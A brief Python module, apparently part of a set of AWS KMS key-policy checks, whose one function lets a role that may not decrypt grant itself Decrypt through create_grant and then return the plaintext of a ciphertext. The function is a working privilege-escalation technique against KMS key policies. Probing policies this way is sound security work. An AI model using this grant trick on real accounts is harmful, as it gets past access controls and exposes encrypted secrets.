"""key-policies/break-in: the plaintext, for a role that may not decrypt."""

RESTORE = "arn:aws:iam::111122223333:role/restore"


def break_in(kms, key_id: str, ciphertext: bytes) -> bytes:
    """The plaintext of `ciphertext`, by a grant that the role gives to itself."""
    grant = kms.create_grant(KeyId=key_id, GranteePrincipal=RESTORE, Operations=["Decrypt"])
    return kms.decrypt(CiphertextBlob=ciphertext, GrantTokens=[grant["GrantToken"]])["Plaintext"]
